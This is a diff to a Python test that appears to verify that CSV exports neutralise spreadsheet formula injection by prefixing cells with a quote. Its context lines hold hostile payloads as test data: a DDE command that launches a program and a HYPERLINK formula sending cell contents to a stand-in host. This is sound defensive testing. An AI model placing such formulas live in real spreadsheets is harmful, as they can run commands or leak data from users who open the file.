@@ -100,6 +100,8 @@ def test_no_spreadsheet_cell_starts_a_formula(hostile_runs):
     connections = (place / "connections.csv").read_text(encoding="utf-8")
     assert "'+cmd|' /C calc'!A0" in assets and "'@SUM(1+1)" in assets and "'-2+3" in assets
     assert "KidsClub" in assets
+    # the partnership's own list is named in words in a published file, never by its file's name
+    assert "the partnership's list" in assets and "local list (" not in assets
     assert "'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"y\"\")" in connections
     assert "'=1+1" in connections or "'\t=1+1" in connections
 
